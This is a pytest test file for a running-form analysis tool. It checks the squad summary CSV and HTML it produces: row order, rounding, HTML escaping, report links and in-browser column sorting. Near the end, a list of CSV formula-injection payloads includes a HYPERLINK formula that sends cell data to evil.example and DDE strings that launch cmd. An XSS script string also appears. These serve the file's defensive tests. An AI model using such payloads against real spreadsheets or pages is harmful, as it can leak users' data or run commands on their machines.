"""The squad summary (summary.csv / summary.html) from fabricated batch results.

No video or MediaPipe: results are built by hand. The browser test needs Chromium at
/usr/bin/chromium and the ``playwright`` package, and skips without; it also saves a
screenshot of the page to docs/images/summary.png.
"""

from __future__ import annotations

import csv
import hashlib
import math
import shutil
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote, urljoin, urlparse

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from formcheck.batch.records import KEY_METRICS, ClipJob, ClipResult
from formcheck.batch.summary import (
    render_summary_html,
    summary_rows,
    write_summary_csv,
    write_summary_html,
)

ROOT = Path(__file__).resolve().parent.parent
NASTY = '<b>Zoë & "Ann"</b>'

OVERSTRIDE = {
    "id": "overstriding",
    "title": "Overstriding: landing ahead of the hips",
    "severity": "moderate",
    "score": 2.0,
}
CADENCE = {"id": "low_cadence", "title": "Low cadence", "severity": "mild", "score": 1}
BOUNCE = {
    "id": "bouncing",
    "title": "Bouncing: large vertical oscillation",
    "severity": "mild",
    "score": 0.5,
}
HIP_BEND = {
    "id": "hip_bend",
    "title": "Bending forward at the hips",
    "severity": "mild",
    "score": 0.2,
}

EXPECTED_HEADER = [
    "athlete",
    "date",
    "clip",
    "view",
    "status",
    "error",
    "activity",
    "duration_s",
    *KEY_METRICS,
    "top_findings",
    "n_findings",
    "report",
    "notes",
    "content_sha256",
]


def make_result(
    name: str,
    athlete: str = "Alice",
    date: str = "2026-05-01",
    *,
    status: str = "ok",
    metrics: dict[str, float] | None = None,
    findings: list[dict] | None = None,
    out_rel: str | None = None,
    notes: str = "",
    error: str | None = None,
    duration_s: float | None = 12.0,
    view: str = "side",
) -> ClipResult:
    """A result as the batch runner would return it for clip ``/videos/<name>``."""
    out_rel = out_rel if out_rel is not None else f"{athlete or 'unknown'}/{name}"
    ok = status == "ok"
    return ClipResult(
        job=ClipJob(
            path=f"/videos/{athlete}/{name}",
            athlete=athlete,
            date=date,
            notes=notes,
            out_rel=out_rel,
        ),
        key=f"key-{name}",
        content_sha256=hashlib.sha256(
            name.encode("utf-8", "surrogatepass")
        ).hexdigest(),
        status=status,  # type: ignore[arg-type]
        error=error if not ok else None,
        error_kind="input" if not ok else None,
        activity="running" if ok else "",
        view=view if ok else "",
        duration_s=duration_s if ok else None,
        metrics=dict(metrics or {}) if ok else {},
        findings=list(findings or []),
    )


@pytest.fixture
def squad() -> list[ClipResult]:
    """Five clips of three athletes (one unnamed), one failed, given out of order."""
    return [
        make_result(
            "b run.mp4",
            "bob",
            "2026-05-02",
            metrics={"cadence_spm": 171.04, "trunk_lean_deg": 6.26},
            findings=[OVERSTRIDE],
        ),
        make_result(
            "late.mp4",
            "Alice",
            "2026-05-03",
            metrics={"cadence_spm": 158.0, "overstride_ll": 0.31234},
            findings=[OVERSTRIDE, CADENCE, BOUNCE, HIP_BEND],
            notes="tired, after intervals",
        ),
        make_result(
            "early.mp4",
            "Alice",
            "2026-05-01",
            metrics={"cadence_spm": 171.01, "contact_time_s": 0.24449},
            findings=[OVERSTRIDE, CADENCE],
        ),
        make_result(
            "broken.mp4",
            "Alice",
            "2026-05-02",
            status="failed",
            error="Could not decode the video: moov atom not found",
        ),
        make_result("anon.mp4", "", "", metrics={}),
    ]


# --- rows and CSV -------------------------------------------------------------------


def test_header_lists_the_clip_columns_then_every_key_metric():
    header, rows = summary_rows([])
    assert header == EXPECTED_HEADER
    assert rows == []


def test_rows_are_sorted_by_athlete_date_and_clip(squad):
    header, rows = summary_rows(squad)
    col = header.index
    order = [(r[col("athlete")], r[col("date")], r[col("clip")]) for r in rows]
    assert order == [
        ("Alice", "2026-05-01", "early.mp4"),
        ("Alice", "2026-05-02", "broken.mp4"),
        ("Alice", "2026-05-03", "late.mp4"),
        ("bob", "2026-05-02", "b run.mp4"),  # case-insensitive: b after A
        ("unknown", "", "anon.mp4"),
    ]
    assert all(len(r) == len(header) for r in rows)


def test_row_values_rounding_blanks_and_findings(squad):
    header, rows = summary_rows(squad)
    late = dict(zip(header, rows[2], strict=True))
    assert late["status"] == "ok"
    assert late["error"] == ""
    assert late["view"] == "side"
    assert late["activity"] == "running"
    assert late["duration_s"] == 12.0
    assert late["cadence_spm"] == 158.0
    assert late["overstride_ll"] == 0.312  # leg lengths: 3 places
    assert late["trunk_lean_deg"] is None  # not measured
    assert late["top_findings"] == (
        "Overstriding: landing ahead of the hips; Low cadence; "
        "Bouncing: large vertical oscillation"
    )
    assert late["n_findings"] == 4
    assert late["report"] == "Alice/late.mp4/report.html"
    assert late["notes"] == "tired, after intervals"
    assert len(late["content_sha256"]) == 64

    early = dict(zip(header, rows[0], strict=True))
    assert early["contact_time_s"] == 0.244  # seconds: 3 places
    assert early["cadence_spm"] == 171.0
    bob = dict(zip(header, rows[3], strict=True))
    assert bob["trunk_lean_deg"] == 6.3  # degrees: 1 place


def test_failed_clip_has_error_and_no_report_or_metrics(squad):
    header, rows = summary_rows(squad)
    failed = dict(zip(header, rows[1], strict=True))
    assert failed["status"] == "failed"
    assert failed["error"] == "Could not decode the video: moov atom not found"
    assert failed["report"] == ""
    assert failed["duration_s"] is None
    assert all(failed[m] is None for m in KEY_METRICS)
    assert failed["top_findings"] == ""
    assert failed["n_findings"] == 0


def test_a_clip_analysed_but_not_judged_links_to_its_report():
    from dataclasses import replace

    walker = replace(
        make_result("walk.mp4", status="failed", error="No runner: walking"),
        activity="walking",
        has_outputs=True,
    )
    header, (row,) = summary_rows([walker])
    cells = dict(zip(header, row, strict=True))
    assert (
        cells["status"] == "failed" and cells["report"] == "Alice/walk.mp4/report.html"
    )
    assert 'href="Alice/walk.mp4/report.html"' in render_summary_html([walker])


@pytest.mark.parametrize(
    ("value", "expected"),
    [(float("nan"), None), (math.inf, None), (-math.inf, None), (180.04, 180.0)],
)
def test_non_finite_metrics_are_blank(value, expected):
    header, rows = summary_rows([make_result("a.mp4", metrics={"cadence_spm": value})])
    assert rows[0][header.index("cadence_spm")] == expected


def test_csv_has_header_rows_and_blank_cells(squad, tmp_path):
    path = tmp_path / "out" / "summary.csv"
    write_summary_csv(squad, path)
    with open(path, encoding="utf-8", newline="") as fh:
        reader = csv.DictReader(fh)
        assert reader.fieldnames == EXPECTED_HEADER
        rows = list(reader)
    assert [r["clip"] for r in rows] == [
        "early.mp4",
        "broken.mp4",
        "late.mp4",
        "b run.mp4",
        "anon.mp4",
    ]
    assert rows[0]["cadence_spm"] == "171.0"
    assert rows[0]["trunk_lean_deg"] == ""
    assert rows[1]["status"] == "failed"
    assert rows[1]["error"] == "Could not decode the video: moov atom not found"
    assert rows[1]["report"] == "" and rows[1]["cadence_spm"] == ""
    assert rows[2]["notes"] == "tired, after intervals"  # the comma is quoted
    assert rows[3]["report"] == "bob/b run.mp4/report.html"
    assert [p.name for p in path.parent.iterdir()] == ["summary.csv"]  # no temp left


def test_csv_keeps_unicode_and_markup_verbatim(tmp_path):
    path = tmp_path / "summary.csv"
    write_summary_csv([make_result("z.mp4", NASTY, notes="5×400 m")], path)
    with open(path, encoding="utf-8", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["athlete"] == NASTY
    assert row["notes"] == "5×400 m"


# --- HTML ---------------------------------------------------------------------------


class _Page(HTMLParser):
    """Collects the counts, the per-athlete chips and the clip table's cells."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.counts: dict[str, int] = {}
        self.chips: dict[str, dict[str, int]] = {}  # athlete -> finding id -> n
        self.athlete_rows: dict[str, dict[str, str]] = {}
        self.headers: list[dict] = []
        self.rows: list[dict] = []  # {"class", "cells": {col: {"v", "text", "href"}}}
        self._count: str | None = None
        self._athlete: str | None = None
        self._cell: dict | None = None
        self._th: dict | None = None
        self._table: str | None = None
        self._small = False
        self.scripts = 0
        self.external: list[str] = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag in ("script", "link", "img") and (a.get("src") or a.get("href")):
            self.external.append(a.get("src") or a.get("href"))
        if tag == "script":
            self.scripts += 1
        if tag == "table":
            self._table = a.get("id")
        elif "data-count" in a:
            self._count = a["data-count"]
        elif tag == "tr" and "data-athlete" in a:
            self._athlete = a["data-athlete"]
            self.chips[self._athlete] = {}
            self.athlete_rows[self._athlete] = {}
        elif tag == "span" and "data-id" in a and self._athlete is not None:
            self.chips[self._athlete][a["data-id"]] = int(a["data-n"])
        elif tag == "td" and self._athlete is not None and "data-col" in a:
            self._cell = {"col": a["data-col"], "text": ""}
        elif self._table == "clips" and tag == "tr":
            self.rows.append({"class": a.get("class") or "", "cells": {}})
        elif self._table == "clips" and tag == "th":
            self._th = {**a, "text": ""}
            self.headers.append(self._th)
        elif self._table == "clips" and tag == "td":
            self._cell = {"col": a["data-col"], "v": a["data-v"], "text": ""}
            self.rows[-1]["cells"][a["data-col"]] = self._cell
        elif tag == "a" and self._cell is not None:
            self._cell["href"] = a["href"]
        elif tag == "small":
            self._small = True

    def handle_endtag(self, tag):
        if tag == "table":
            self._table = None
        elif tag == "tr":
            self._athlete = None
        elif tag in ("td", "th"):
            if self._cell is not None and self._athlete is not None:
                self.athlete_rows[self._athlete][self._cell["col"]] = self._cell["text"]
            self._cell = self._th = None
        elif tag == "small":
            self._small = False

    def handle_data(self, data):
        if self._count is not None:
            self.counts[self._count] = int(data)
            self._count = None
        elif self._cell is not None:
            self._cell["text"] += data
        elif self._th is not None and not self._small:
            self._th["text"] += data


def parse(page: str) -> _Page:
    p = _Page()
    p.feed(page)
    p.close()
    p.rows = [r for r in p.rows if r["cells"]]  # drop the header row
    return p


def test_html_counts_and_findings_per_athlete(squad):
    page = parse(render_summary_html(squad))
    assert page.counts == {"clips": 5, "ok": 4, "failed": 1, "athletes": 3}
    assert page.chips == {
        "Alice": {"overstriding": 2, "low_cadence": 2, "bouncing": 1, "hip_bend": 1},
        "bob": {"overstriding": 1},
        "unknown": {},
    }
    assert page.athlete_rows["Alice"] == {"clips": "3", "failed": "1"}
    assert page.athlete_rows["unknown"] == {"clips": "1", "failed": "0"}


def test_html_chips_are_most_frequent_first():
    results = [
        make_result("1.mp4", findings=[BOUNCE]),
        make_result("2.mp4", findings=[HIP_BEND, BOUNCE]),
        make_result("3.mp4", findings=[BOUNCE, CADENCE, HIP_BEND]),
    ]
    page = render_summary_html(results)
    chips = parse(page).chips["Alice"]
    assert list(chips) == ["bouncing", "hip_bend", "low_cadence"]
    assert list(chips.values()) == [3, 2, 1]
    assert "Bouncing: large vertical oscillation ×3" in page


def test_html_table_rows_headers_and_raw_values(squad):
    page = parse(render_summary_html(squad))
    assert [h["data-col"] for h in page.headers] == EXPECTED_HEADER
    heads = {h["data-col"]: h for h in page.headers}
    assert heads["cadence_spm"]["data-type"] == "num"
    assert heads["athlete"]["data-type"] == "text"
    assert heads["cadence_spm"]["text"].strip() == "Cadence"
    assert heads["overstride_ll"]["text"].strip() == "Overstride at contact"
    assert "steps/min" in render_summary_html(squad)
    assert "title" in heads["cadence_spm"]  # the definition on hover

    clips = [r["cells"]["clip"]["text"] for r in page.rows]
    assert clips == ["early.mp4", "broken.mp4", "late.mp4", "b run.mp4", "anon.mp4"]
    early = page.rows[0]["cells"]
    # Shown rounded, stored exact: 171.01 and 171.04 both read "171.0".
    assert early["cadence_spm"]["text"] == "171.0"
    assert float(early["cadence_spm"]["v"]) == 171.01
    assert early["trunk_lean_deg"] == {"col": "trunk_lean_deg", "v": "", "text": "–"}


def test_html_failed_rows_are_marked_with_their_error(squad):
    page = parse(render_summary_html(squad))
    failed = [r for r in page.rows if "failed" in r["class"].split()]
    assert len(failed) == 1
    cells = failed[0]["cells"]
    assert cells["clip"]["text"] == "broken.mp4"
    assert "href" not in cells["clip"]  # no outputs to link to
    assert cells["status"]["text"] == "failed"
    assert cells["error"]["text"] == "Could not decode the video: moov atom not found"
    assert cells["report"]["text"] == ""
    assert all("failed" not in r["class"] for r in page.rows if r is not failed[0])


@pytest.mark.parametrize(
    "out_rel",
    [
        "Alice/clip one",
        "Zoë Ann/sprint #2?",
        "Ann & Bo/50%_effort",
        "Alice/early.mp4",
    ],
)
def test_html_links_resolve_to_each_report(out_rel, tmp_path):
    batch = tmp_path / "batch"
    report = batch / out_rel / "report.html"
    report.parent.mkdir(parents=True)
    report.write_text("<p>report</p>", encoding="utf-8")
    summary = batch / "summary.html"
    write_summary_html([make_result("x.mp4", out_rel=out_rel)], summary)

    cells = parse(summary.read_text(encoding="utf-8")).rows[0]["cells"]
    for href in (cells["clip"]["href"], cells["report"]["href"]):
        assert not any(ch in href for ch in " #?&") and href.isascii()
        url = urljoin(summary.as_uri(), href)  # what the browser does
        target = Path(unquote(urlparse(url).path))
        assert target == report
        assert target.exists()


def test_html_escapes_user_text(tmp_path):
    nasty_notes = "</td><script>alert(1)</script> & more"
    results = [
        make_result("<i>c&d.mp4", NASTY, notes=nasty_notes, findings=[OVERSTRIDE]),
        make_result("f.mp4", NASTY, status="failed", error='bad <frame> & "x"'),
    ]
    html = render_summary_html(results, title="Squad <3 & co")
    assert "<b>Zoë" not in html
    assert "<script>alert" not in html
    assert "<i>c&d" not in html
    assert "&lt;b&gt;Zoë &amp; &quot;Ann&quot;&lt;/b&gt;" in html
    assert "<title>Squad &lt;3 &amp; co</title>" in html

    page = parse(html)
    assert page.scripts == 1  # only the page's own sorting script
    assert page.external == []
    assert list(page.chips) == [NASTY]  # the attribute round-trips exactly
    rows = page.rows
    assert {r["cells"]["athlete"]["text"] for r in rows} == {NASTY}
    assert {r["cells"]["athlete"]["v"] for r in rows} == {NASTY}
    by_clip = {r["cells"]["clip"]["text"]: r["cells"] for r in rows}
    assert by_clip["<i>c&d.mp4"]["notes"]["text"] == nasty_notes
    assert by_clip["f.mp4"]["error"]["text"] == 'bad <frame> & "x"'


def test_html_is_self_contained_and_written_atomically(squad, tmp_path):
    path = tmp_path / "summary.html"
    path.write_text("old", encoding="utf-8")
    write_summary_html(squad, path, title="Spring block")
    text = path.read_text(encoding="utf-8")
    assert text.startswith("<!DOCTYPE html>")
    assert "<h1>Spring block</h1>" in text
    assert "http://" not in text and "https://" not in text
    assert parse(text).external == []
    assert [p.name for p in tmp_path.iterdir()] == ["summary.html"]


def test_html_of_an_empty_batch_says_so():
    page = render_summary_html([])
    assert parse(page).counts == {"clips": 0, "ok": 0, "failed": 0, "athletes": 0}
    assert "No clips in this batch" in page


# --- in a browser -------------------------------------------------------------------


def _column(page, name: str) -> list[str]:
    return page.eval_on_selector_all(
        f"#clips tbody td[data-col={name}]", "tds => tds.map(td => td.dataset.v)"
    )


def _arrow(page, name: str) -> str:
    return page.inner_text(f"#clips th[data-col={name}] .arrow")


def test_clicking_headers_sorts_the_table(browser, squad, tmp_path):
    squad = [
        *squad,
        make_result("c.mp4", "carol", "2026-05-04", metrics={"cadence_spm": 9.5}),
        make_result("d.mp4", "Dave", "2026-05-04", metrics={"cadence_spm": 180.2}),
    ]
    path = tmp_path / "summary.html"
    write_summary_html(squad, path)
    page = browser.new_page(viewport={"width": 1200, "height": 800})
    try:
        page.goto(path.as_uri())
        page.wait_for_selector("#clips")

        page.click("#clips th[data-col=cadence_spm]")
        values = _column(page, "cadence_spm")
        # 9.5 < 158: numeric, not text, order; 171.01 < 171.04 though both show 171.0.
        assert values == ["9.5", "158.0", "171.01", "171.04", "180.2", "", ""]
        assert _arrow(page, "cadence_spm") == "▲"
        page.click("#clips th[data-col=cadence_spm]")
        assert _column(page, "cadence_spm") == [
            "180.2",
            "171.04",
            "171.01",
            "158.0",
            "9.5",
            "",
            "",
        ]
        assert _arrow(page, "cadence_spm") == "▼"

        page.click("#clips th[data-col=athlete]")
        athletes = _column(page, "athlete")
        assert athletes[:3] == ["Alice"] * 3
        assert athletes[3:] == ["bob", "carol", "Dave", "unknown"]
        assert _arrow(page, "athlete") == "▲"
        assert _arrow(page, "cadence_spm") == ""
        page.click("#clips th[data-col=athlete]")
        assert _column(page, "athlete")[:4] == ["unknown", "Dave", "carol", "bob"]
        # Equal names keep the page's date order in both directions.
        assert _column(page, "clip")[-3:] == ["early.mp4", "broken.mp4", "late.mp4"]
        page.click("#clips th[data-col=athlete]")
        assert _column(page, "clip")[:3] == ["early.mp4", "broken.mp4", "late.mp4"]
    finally:
        page.close()


def _demo_squad() -> list[ClipResult]:
    """A plausible small squad for the screenshot in the docs."""
    side = [
        ("Maya Okafor", "2026-04-12", "tempo_side.mp4", 176.2, 7.1, 0.142, [CADENCE]),
        ("Maya Okafor", "2026-05-10", "tempo_side.mp4", 181.5, 6.4, 0.118, []),
        (
            "Jonas Weber",
            "2026-05-03",
            "easy run side.mp4",
            158.3,
            3.2,
            0.231,
            [OVERSTRIDE, CADENCE, BOUNCE],
        ),
        (
            "Jonas Weber",
            "2026-05-17",
            "strides_side.mp4",
            168.9,
            4.8,
            0.176,
            [OVERSTRIDE],
        ),
        ("Zoë Lind", "2026-05-08", "treadmill.mp4", 172.4, 9.6, 0.151, [HIP_BEND]),
    ]
    results = [
        make_result(
            clip,
            athlete,
            date,
            metrics={
                "cadence_spm": cad,
                "trunk_lean_deg": lean,
                "overstride_ll": over,
                "foot_angle_ic_deg": 4 + 60 * over,
                "knee_flexion_ic_deg": 22 - 30 * over,
                "vertical_oscillation_ll": 0.08 + 0.1 * over,
                "contact_time_s": 0.3 - 0.2 * (cad - 150) / 40,
            },
            findings=findings,
            duration_s=14.2,
            notes="after 4×1 km" if clip.startswith("strides") else "",
        )
        for athlete, date, clip, cad, lean, over, findings in side
    ]
    results.append(
        make_result(
            "rear.mp4",
            "Maya Okafor",
            "2026-05-10",
            metrics={
                "cadence_spm": 180.8,
                "pelvic_drop_deg": 5.2,
                "step_width_hw": 0.4,
            },
            duration_s=11.0,
            view="rear",
        )
    )
    results.append(
        make_result(
            "phone clip.mov",
            "Zoë Lind",
            "2026-05-20",
            status="failed",
            error="No runner found: nobody was detected in 92% of the frames",
        )
    )
    return results


def test_screenshot_of_a_squad(browser, tmp_path):
    """Not an assertion of looks: saves docs/images/summary.png for the docs."""
    path = tmp_path / "summary.html"
    write_summary_html(_demo_squad(), path, title="Spring block — squad summary")
    page = browser.new_page(viewport={"width": 1200, "height": 800})
    try:
        page.goto(path.as_uri())
        page.click("#clips th[data-col=cadence_spm]")
        assert _arrow(page, "cadence_spm") == "▲"
        shot = tmp_path / "summary.png"
        page.screenshot(path=str(shot), full_page=True)
        docs = ROOT / "docs" / "images" / "summary.png"
        docs.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(shot, docs)
    finally:
        page.close()


# --- formula injection in summary.csv ---------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def _written(results, tmp_path) -> list[dict[str, str]]:
    path = tmp_path / "summary.csv"
    write_summary_csv(results, path)
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_text_cells_cannot_start_a_formula(tmp_path, text):
    clip = text.replace("/", "_") + ".mp4"
    result = make_result(clip, text, notes=text, out_rel=f"{text}/clip")
    (row,) = _written([result], tmp_path)
    assert row["athlete"] == "'" + text
    assert row["notes"] == "'" + text
    assert row["clip"] == "'" + clip
    assert row["report"] == f"'{text}/clip/report.html"  # starts with the athlete
    # The page shows the text as it is (it is escaped there, not quoted).
    page = parse(render_summary_html([result]))
    assert page.rows[0]["cells"]["athlete"]["v"] == text


def test_csv_numbers_stay_numbers_negative_ones_included(tmp_path):
    result = make_result(
        "a.mp4",
        "Ann",
        notes="-5",
        metrics={"trunk_lean_deg": -3.25, "cadence_spm": 170},
    )
    (row,) = _written([result], tmp_path)
    assert row["trunk_lean_deg"] == "-3.2"  # rounded, not quoted
    assert float(row["trunk_lean_deg"]) == pytest.approx(-3.2)
    assert row["notes"] == "-5"  # text that is a plain number is a number anyway


def test_csv_and_page_keep_line_breaks_in_notes(tmp_path):
    result = make_result("a.mp4", "Ann", notes="first line\nsecond line")
    (row,) = _written([result], tmp_path)
    assert row["notes"] == "first line\nsecond line"
    page = render_summary_html([result])
    assert "first line\nsecond line" in page
    assert "td.notes{white-space:pre-line}" in page


TRIGGERS = "=+-@\t\r"


@settings(max_examples=200, deadline=None)
@given(
    athlete=st.text(st.sampled_from("=+-@\t\r\n 1.e5aZ|!\"'"), max_size=12),
    notes=st.text(max_size=30),
    clip=st.text(st.characters(exclude_characters="/\x00"), min_size=1, max_size=12),
    lean=st.floats(allow_nan=True, allow_infinity=True),
)
# A file name with undecodable bytes arrives as a lone surrogate.
@example(athlete="", notes="", clip="\ud800", lean=0.0)
def test_no_csv_cell_starts_a_formula_unless_a_number(
    tmp_path_factory, athlete, notes, clip, lean
):
    result = make_result(
        clip, athlete, notes=notes, metrics={"trunk_lean_deg": lean}, error=None
    )
    failed = make_result(clip, athlete, status="failed", error=notes, notes=notes)
    path = tmp_path_factory.mktemp("csv", numbered=True) / "summary.csv"
    write_summary_csv([result, failed], path)
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == EXPECTED_HEADER
    for row in rows[1:]:
        for cell in row:
            if cell and cell[0] in TRIGGERS:
                float(cell)  # only a number may start like that
        by_name = dict(zip(EXPECTED_HEADER, row, strict=True))
        # Nothing is lost: at most one quote was added.
        assert by_name["notes"] in (notes, "'" + notes)
        assert by_name["athlete"] in (athlete or "unknown", "'" + athlete)
